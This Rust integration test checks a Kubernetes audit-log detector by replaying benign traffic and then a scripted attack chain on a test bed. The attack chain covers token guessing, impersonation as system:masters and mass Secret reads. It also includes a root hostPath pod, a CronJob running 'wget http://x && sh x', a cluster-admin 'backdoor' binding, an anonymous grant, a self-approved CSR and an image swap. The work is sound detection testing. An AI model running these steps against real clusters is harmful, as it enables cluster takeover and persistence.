//! A real API server's audit log as the oracle for `kubeharden audit-log`.
//!
//! The test bed's kube-apiserver logs every stage of every request (deploy/audit-policy.yaml).
//! The test plays benign traffic first: ordinary users with client certificates minted
//! from the test bed's CA, a controller's identity creating a pod from a "node" address,
//! a watch. That part of the log must raise no alert. Then attacks, as `mallory`
//! (impersonated from the admin identity) from 127.0.0.2, which the deny list names;
//! each must raise its detector. The log lines are the API server's, untouched: every
//! one must parse.

mod common;

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use kubeharden_testbed::Testbed;
use serde_json::{json, Value};

/// The attacker's address, on the deny list.
const ATTACKER: &str = "127.0.0.2";
/// A "node" address (`--cluster-cidr`): pods created from it suggest a breakout,
/// unless a control-plane component creates them.
const NODE: &str = "127.0.0.3";

/// How a request authenticates, and where it comes from.
#[derive(Clone)]
struct Who(Vec<String>);

impl Who {
    fn cert(dir: &Path, name: &str) -> Who {
        let pki = dir.join("pki");
        Who(vec![
            "--cert".into(),
            pki.join(format!("{name}.crt")).display().to_string(),
            "--key".into(),
            pki.join(format!("{name}.key")).display().to_string(),
        ])
    }

    fn anonymous() -> Who {
        Who(Vec::new())
    }

    fn token(token: &str) -> Who {
        Who(vec!["-H".into(), format!("Authorization: Bearer {token}")])
    }

    /// Impersonates `user` (in `groups`) from this identity.
    fn impersonating(mut self, user: &str, groups: &[&str]) -> Who {
        self.0
            .extend(["-H".into(), format!("Impersonate-User: {user}")]);
        for g in groups {
            self.0
                .extend(["-H".into(), format!("Impersonate-Group: {g}")]);
        }
        self
    }

    fn from(mut self, address: &str) -> Who {
        self.0.extend(["--interface".into(), address.into()]);
        self
    }
}

struct Api<'a> {
    tb: &'a Testbed,
}

impl Api<'_> {
    /// Sends a request with curl (which can bind the client to a loopback address) and
    /// returns the status code and the body.
    fn send(&self, who: &Who, method: &str, path: &str, body: Option<Value>) -> (u16, Value) {
        let ca = self.tb.dir.join("pki/ca.crt");
        let content_type = match method {
            "PATCH" => "application/merge-patch+json",
            _ => "application/json",
        };
        let mut cmd = Command::new("curl");
        cmd.args(["-sS", "--max-time", "20", "--cacert"])
            .arg(&ca)
            .args(&who.0)
            .args(["-X", method, "-H"])
            .arg(format!("Content-Type: {content_type}"))
            .args(["-w", "\n%{http_code}"]);
        if let Some(body) = body {
            cmd.args(["--data-binary", &body.to_string()]);
        }
        let out = cmd
            .arg(format!("{}{path}", self.tb.server))
            .output()
            .expect("run curl");
        let text = String::from_utf8_lossy(&out.stdout);
        let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
        let code = code.trim().parse().unwrap_or_else(|_| {
            panic!(
                "curl {method} {path}: {}",
                String::from_utf8_lossy(&out.stderr)
            )
        });
        (code, serde_json::from_str(body).unwrap_or(Value::Null))
    }

    /// A request that must get `want`.
    fn expect(&self, who: &Who, method: &str, path: &str, body: Option<Value>, want: u16) {
        let (code, reply) = self.send(who, method, path, body);
        // Only the Status message: a body may hold Secrets, which are never printed.
        assert_eq!(code, want, "{method} {path}: {}", reply["message"]);
    }
}

/// A client certificate signed by the test bed's CA: `CN=user, O=group`.
fn mint(dir: &Path, name: &str, subject: &str) {
    let pki = dir.join("pki");
    let file = |ext: &str| pki.join(format!("{name}.{ext}")).display().to_string();
    let ext = file("ext");
    std::fs::write(&ext, "extendedKeyUsage=clientAuth\n").unwrap();
    let steps: [Vec<String>; 2] = [
        [
            "req", "-newkey", "rsa:2048", "-nodes", "-subj", subject, "-keyout",
        ]
        .map(String::from)
        .into_iter()
        .chain([file("key"), "-out".into(), file("csr")])
        .collect(),
        ["x509", "-req", "-days", "2", "-CAcreateserial", "-in"]
            .map(String::from)
            .into_iter()
            .chain([
                file("csr"),
                "-CA".into(),
                pki.join("ca.crt").display().to_string(),
            ])
            .chain(["-CAkey".into(), pki.join("ca.key").display().to_string()])
            .chain(["-extfile".into(), ext.clone(), "-out".into(), file("crt")])
            .collect(),
    ];
    for args in steps {
        let out = Command::new("openssl")
            .args(&args)
            .output()
            .expect("openssl");
        assert!(out.status.success(), "openssl {args:?}: {out:?}");
    }
}

/// A pod; a risky one mounts the node's root. (The test bed's API server refuses
/// `privileged` outright: it runs without `--allow-privileged`.)
fn pod(name: &str, risky: bool) -> Value {
    let mut pod = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name},
           "spec": {"containers": [{"name": "app", "image": "nginx:1.27"}]}});
    if risky {
        pod["spec"]["volumes"] = json!([{"name": "root", "hostPath": {"path": "/"}}]);
    }
    pod
}

fn service_account(name: &str) -> Value {
    json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name}})
}

/// Namespaces, roles, users: what both parts need. Done by the admin, benign.
fn setup(api: &Api, admin: &Who, ns: &str) {
    let nss = format!("/api/v1/namespaces/{ns}");
    api.expect(
        admin,
        "POST",
        "/api/v1/namespaces",
        Some(json!({"metadata": {"name": ns}})),
        201,
    );
    // No controller runs, so the default ServiceAccount (which admission requires) is made here.
    api.expect(
        admin,
        "POST",
        &format!("{nss}/serviceaccounts"),
        Some(service_account("default")),
        201,
    );
    api.expect(
        admin,
        "POST",
        &format!("{nss}/serviceaccounts"),
        Some(service_account("builder")),
        201,
    );
    let role = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": "dev"},
        "rules": [{"apiGroups": ["", "apps"], "resources": ["pods", "configmaps", "secrets", "deployments"],
                   "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]}]});
    let rbac = format!("/apis/rbac.authorization.k8s.io/v1/namespaces/{ns}");
    api.expect(admin, "POST", &format!("{rbac}/roles"), Some(role), 201);
    let binding = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "devs"},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "dev"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "devs"}]});
    api.expect(
        admin,
        "POST",
        &format!("{rbac}/rolebindings"),
        Some(binding),
        201,
    );
    for i in 0..5 {
        let secret = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": format!("db-{i}")},
                            "stringData": {"password": "not-a-real-one"}});
        api.expect(admin, "POST", &format!("{nss}/secrets"), Some(secret), 201);
    }
}

/// Everyday work: must raise nothing.
fn benign(api: &Api, dir: &Path, ns: &str) {
    let alice = Who::cert(dir, "alice");
    let nss = format!("/api/v1/namespaces/{ns}");
    api.expect(
        &alice,
        "POST",
        &format!("{nss}/pods"),
        Some(pod("web", false)),
        201,
    );
    api.expect(
        &alice,
        "GET",
        &format!("{nss}/pods?labelSelector=app%3Dweb&limit=10"),
        None,
        200,
    );
    api.expect(
        &alice,
        "GET",
        &format!("{nss}/pods?watch=true&timeoutSeconds=1"),
        None,
        200,
    );
    let cm = json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "conf",
        "annotations": {"note": "quotes \" and \\ backslashes & ampersands <ok> é"}}, "data": {"a": "b"}});
    api.expect(&alice, "POST", &format!("{nss}/configmaps"), Some(cm), 201);
    for i in 0..3 {
        api.expect(&alice, "GET", &format!("{nss}/secrets/db-{i}"), None, 200);
    }
    // A denied request or two is everyday life, not probing.
    api.expect(&alice, "GET", "/api/v1/namespaces", None, 403);
    // Anonymous health checks are public.
    api.expect(&Who::anonymous(), "GET", "/readyz", None, 200);
    // A controller creates pods from a node address: not a breakout.
    let controller = Who::cert(dir, "rs-controller").from(NODE);
    api.expect(
        &controller,
        "POST",
        &format!("{nss}/pods"),
        Some(pod("web-rs", false)),
        201,
    );
    let out = api
        .tb
        .kubectl("admin", &["get", "pods", "-A", "-o", "name"]);
    assert!(out.status.success(), "{out:?}");
}

/// The attacks, each with the rule it must raise.
fn attacks(api: &Api, ns: &str) {
    let nss = format!("/api/v1/namespaces/{ns}");
    // KH801, then KH802: failed logins from one address, then a success from it.
    for i in 0..12 {
        api.expect(
            &Who::token(&format!("guess-{i}")).from(ATTACKER),
            "GET",
            "/api/v1/namespaces",
            None,
            401,
        );
    }
    let admin = Who::cert(&api.tb.dir, "admin");
    let mallory = admin
        .clone()
        .impersonating("mallory", &["system:masters"])
        .from(ATTACKER);
    // KH803: probing as a user without rights.
    // A user of its own: earlier runs on the same test bed granted mallory everything.
    let nobody = admin
        .clone()
        .impersonating(&format!("prober-{ns}"), &[])
        .from(ATTACKER);
    for _ in 0..22 {
        api.expect(&nobody, "GET", "/api/v1/secrets", None, 403);
    }
    // KH806 and the start of KH818: Secrets across namespaces, then many gets.
    api.expect(&mallory, "GET", "/api/v1/secrets", None, 200);
    for i in 0..25 {
        api.expect(
            &mallory,
            "GET",
            &format!("{nss}/secrets/db-{}", i % 5),
            None,
            200,
        );
    }
    // KH805: exec and port-forward. The pod never runs (400), but the request was allowed.
    api.expect(
        &mallory,
        "POST",
        &format!("{nss}/pods/web/exec?command=sh&command=-c&command=id&container=app&stdout=true"),
        None,
        400,
    );
    api.expect(
        &mallory,
        "POST",
        &format!("{nss}/pods/web/portforward?ports=8080"),
        None,
        400,
    );
    // KH807 (and KH818, after the credentials and the exec); KH808; KH809.
    api.expect(
        &mallory,
        "POST",
        &format!("{nss}/pods"),
        Some(pod("root", true)),
        201,
    );
    // Already there on a test bed that ran this before: 409.
    let (code, _) = api.send(
        &mallory,
        "POST",
        "/api/v1/namespaces/kube-system/serviceaccounts",
        Some(service_account("default")),
    );
    assert!(matches!(code, 201 | 409), "kube-system/default: {code}");
    api.expect(
        &mallory,
        "POST",
        "/api/v1/namespaces/kube-system/pods",
        Some(pod(&format!("sys-{ns}"), false)),
        201,
    );
    let cron = json!({"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "backup"},
        "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
            "restartPolicy": "Never", "containers": [{"name": "c", "image": "busybox", "command": ["sh", "-c", "wget http://x && sh x"]}]}}}}}});
    api.expect(
        &mallory,
        "POST",
        &format!("/apis/batch/v1/namespaces/{ns}/cronjobs"),
        Some(cron),
        201,
    );
    // KH810: cluster-admin granted. KH804: a grant to anonymous, then anonymous reads.
    let crb = |name: &str, role: &str, subject: Value| {
        json!({"apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding", "metadata": {"name": name},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role},
        "subjects": [subject]})
    };
    let crbs = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings";
    let user =
        |name: &str| json!({"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": name});
    api.expect(
        &mallory,
        "POST",
        crbs,
        Some(crb(
            &format!("backdoor-{ns}"),
            "cluster-admin",
            user("mallory"),
        )),
        201,
    );
    // A role of our own: `view` is filled in by the controller manager, which is absent.
    let reader = json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
        "metadata": {"name": format!("pod-reader-{ns}")},
        "rules": [{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list"]}]});
    let roles = "/apis/rbac.authorization.k8s.io/v1/clusterroles";
    api.expect(&mallory, "POST", roles, Some(reader), 201);
    let anon = crb(
        &format!("anon-{ns}"),
        &format!("pod-reader-{ns}"),
        user("system:anonymous"),
    );
    api.expect(&mallory, "POST", crbs, Some(anon), 201);
    api.expect(
        &Who::anonymous().from(ATTACKER),
        "GET",
        &format!("{nss}/pods"),
        None,
        200,
    );
    // KH812: a token, and a CSR approval.
    api.expect(
        &mallory,
        "POST",
        &format!("{nss}/serviceaccounts/builder/token"),
        Some(json!({"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest", "spec": {}})),
        201,
    );
    csr_approval(api, &mallory, ns);
    // KH813: a webhook and a Pod Security label.
    let webhook = json!({"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": format!("audit-{ns}")},
        "webhooks": [{"name": "v.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
            "failurePolicy": "Ignore", "clientConfig": {"url": "https://example.com/validate"},
            "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}]}]});
    api.expect(
        &mallory,
        "POST",
        "/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations",
        Some(webhook),
        201,
    );
    let label =
        json!({"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}});
    api.expect(&mallory, "PATCH", &nss, Some(label), 200);
    pod_security_and_workload_changes(api, &mallory, ns);
    // KH814: a pod created from a node address by someone who is not a component.
    let breakout = Who::cert(&api.tb.dir, "admin")
        .impersonating("mallory", &["system:masters"])
        .from(NODE);
    api.expect(
        &breakout,
        "POST",
        &format!("{nss}/pods"),
        Some(pod("escape", false)),
        201,
    );
}

/// KH819: a namespace audited at `restricted`, where the API server admits a pod that
/// breaks the level and writes the violations on its event. KH820: a Deployment
/// scaled through `scale`, then given a new image.
fn pod_security_and_workload_changes(api: &Api, who: &Who, ns: &str) {
    let audited = format!("{ns}-psa");
    api.expect(
        who,
        "POST",
        "/api/v1/namespaces",
        Some(json!({"metadata": {"name": audited,
            "labels": {"pod-security.kubernetes.io/audit": "restricted"}}})),
        201,
    );
    let nss = format!("/api/v1/namespaces/{audited}");
    api.expect(
        who,
        "POST",
        &format!("{nss}/serviceaccounts"),
        Some(service_account("default")),
        201,
    );
    api.expect(
        who,
        "POST",
        &format!("{nss}/pods"),
        Some(pod("loose", false)),
        201,
    );
    let deployments = format!("/apis/apps/v1/namespaces/{ns}/deployments");
    let deployment = json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "shop-web"},
        "spec": {"replicas": 1, "selector": {"matchLabels": {"app": "shop-web"}},
                 "template": {"metadata": {"labels": {"app": "shop-web"}},
                              "spec": {"containers": [{"name": "app", "image": "nginx:1.27"}]}}}});
    api.expect(who, "POST", &deployments, Some(deployment), 201);
    api.expect(
        who,
        "PATCH",
        &format!("{deployments}/shop-web/scale"),
        Some(json!({"spec": {"replicas": 20}})),
        200,
    );
    let image = json!({"spec": {"template": {"spec": {"containers": [{"name": "app", "image": "registry.example.com/app:evil"}]}}}});
    api.expect(
        who,
        "PATCH",
        &format!("{deployments}/shop-web"),
        Some(image),
        200,
    );
    // `kubectl rollout restart`'s patch: its own alert, not hidden by the scale's.
    let restart = json!({"spec": {"template": {"metadata": {"annotations":
        {"kubectl.kubernetes.io/restartedAt": "2026-12-02T20:00:00Z"}}}}});
    api.expect(
        who,
        "PATCH",
        &format!("{deployments}/shop-web"),
        Some(restart),
        200,
    );
}

fn csr_approval(api: &Api, who: &Who, ns: &str) {
    let dir = &api.tb.dir;
    let key = dir.join("pki/csr-test.key");
    let out = Command::new("openssl")
        .args([
            "req",
            "-new",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-subj",
            "/CN=mallory2",
            "-keyout",
        ])
        .arg(&key)
        .output()
        .expect("openssl");
    assert!(out.status.success(), "{out:?}");
    use base64_lite::encode;
    let name = format!("mallory-{ns}");
    let csr = json!({"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest",
        "metadata": {"name": name},
        "spec": {"request": encode(&out.stdout), "signerName": "kubernetes.io/kube-apiserver-client",
                 "usages": ["client auth"]}});
    let csrs = "/apis/certificates.k8s.io/v1/certificatesigningrequests";
    api.expect(who, "POST", csrs, Some(csr), 201);
    let (_, mut current) = api.send(who, "GET", &format!("{csrs}/{name}"), None);
    current["status"] = json!({"conditions": [{"type": "Approved", "status": "True",
        "reason": "Hacked", "message": "approved by \"mallory\""}]});
    api.expect(
        who,
        "PUT",
        &format!("{csrs}/{name}/approval"),
        Some(current),
        200,
    );
}

/// Standard base64, for a CSR in a JSON body.
mod base64_lite {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

    pub fn encode(bytes: &[u8]) -> String {
        let mut out = String::new();
        for chunk in bytes.chunks(3) {
            let n = chunk
                .iter()
                .enumerate()
                .fold(0u32, |n, (i, b)| n | u32::from(*b) << (16 - 8 * i));
            for i in 0..4 {
                out.push(if i <= chunk.len() {
                    ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char
                } else {
                    '='
                });
            }
        }
        out
    }
}

/// The log as it is now, once the API server has written what it answered: events
/// are written when the handler returns, which can be just after the client has its
/// answer.
fn snapshot(log: &Path) -> Vec<u8> {
    let mut last = 0;
    loop {
        std::thread::sleep(std::time::Duration::from_millis(1500));
        let bytes = std::fs::read(log).expect("read the audit log");
        if bytes.len() == last {
            let end = bytes.iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
            return bytes[..end].to_vec();
        }
        last = bytes.len();
    }
}

fn analyse(log: &Path, deny: &Path) -> Value {
    let out = common::run_in(
        log.parent().unwrap(),
        &[
            "audit-log",
            log.to_str().unwrap(),
            "--deny-list",
            deny.to_str().unwrap(),
            "--cluster-cidr",
            &format!("{NODE}/32"),
            "--secret-reads",
            "20",
            "--format",
            "json",
        ],
        None,
    );
    let doc = common::json(&out);
    assert_eq!(
        doc["errors"],
        json!([]),
        "every line of the real log must parse; stderr: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    doc
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, bytes).unwrap();
    path
}

/// Removes what the attacks left cluster-wide: the other differential tests share the
/// test bed, and a grant to anonymous users or a webhook would change their answers.
fn clean_up(api: &Api, ns: &str) {
    let admin = Who::cert(&api.tb.dir, "admin");
    let rbac = "/apis/rbac.authorization.k8s.io/v1";
    for path in [
        format!("{rbac}/clusterrolebindings/backdoor-{ns}"),
        format!("{rbac}/clusterrolebindings/anon-{ns}"),
        format!("{rbac}/clusterroles/pod-reader-{ns}"),
        format!("/apis/admissionregistration.k8s.io/v1/validatingwebhookconfigurations/audit-{ns}"),
    ] {
        api.expect(&admin, "DELETE", &path, None, 200);
    }
}

#[test]
fn a_real_audit_log_raises_each_attack_and_nothing_else() {
    let Some(tb) = kubeharden_testbed::testbed() else {
        return;
    };
    let api = Api { tb };
    let ns = format!("shop-{}", std::process::id());
    // A test bed of our own is judged from its first line, start-up included; one
    // that was already up (KUBEHARDEN_TESTBED_DIR) may hold earlier runs' attacks.
    let start = match std::env::var_os("KUBEHARDEN_TESTBED_DIR") {
        Some(_) => snapshot(&tb.audit_log).len(),
        None => 0,
    };
    mint(&tb.dir, "alice", "/O=devs/CN=alice");
    mint(
        &tb.dir,
        "rs-controller",
        "/CN=system:serviceaccount:kube-system:replicaset-controller",
    );
    setup(&api, &Who::cert(&tb.dir, "admin"), &ns);
    benign(&api, &tb.dir, &ns);
    let benign_log = snapshot(&tb.audit_log);
    attacks(&api, &ns);
    let full_log = snapshot(&tb.audit_log);
    clean_up(&api, &ns);

    let work = tempfile::tempdir().unwrap();
    let deny = write(
        work.path(),
        "deny.txt",
        format!("# the attacker\n{ATTACKER}/32\n").as_bytes(),
    );
    let benign_path = write(work.path(), "benign.log", &benign_log[start..]);
    let full_path = write(work.path(), "audit.log", &full_log[start..]);

    let doc = analyse(&benign_path, &deny);
    let messages: Vec<String> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| format!("{} {}", f["rule_id"], f["message"]))
        .collect();
    assert!(
        messages.is_empty(),
        "benign traffic raised alerts: {messages:#?}"
    );

    let doc = analyse(&full_path, &deny);
    let got: BTreeSet<&str> = common::rule_ids(&doc).into_iter().collect();
    let want = [
        "KH801", "KH802", "KH803", "KH804", "KH805", "KH806", "KH807", "KH808", "KH809", "KH810",
        "KH811", "KH812", "KH813", "KH814", "KH815", "KH818", "KH819", "KH820",
    ];
    let missing: Vec<&str> = want
        .iter()
        .copied()
        .filter(|id| !got.contains(id))
        .collect();
    let findings: Vec<String> = doc["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            format!(
                "{} {} ({}x)",
                f["rule_id"], f["message"], f["alert"]["count"]
            )
        })
        .collect();
    assert!(
        missing.is_empty(),
        "missing {missing:?}; raised: {findings:#?}"
    );
    // KH820: the scale, the image and the restart of one Deployment, each said.
    let changes: Vec<&String> = findings
        .iter()
        .filter(|f| f.starts_with("\"KH820\""))
        .collect();
    for words in [
        "patched",
        "scaled to 20 replicas",
        "images registry.example.com/app:evil",
        "rollout restarted",
    ] {
        assert!(
            changes
                .iter()
                .any(|f| f.contains(words) && f.contains("shop-web")),
            "KH820 does not say {words:?}: {changes:#?}"
        );
    }
    assert!(
        !findings.iter().any(|f| f.contains("patchd")),
        "{findings:#?}"
    );
    eprintln!(
        "{} lines; alerts:\n{}",
        full_log[start..].split(|b| *b == b'\n').count() - 1,
        findings.join("\n")
    );
}
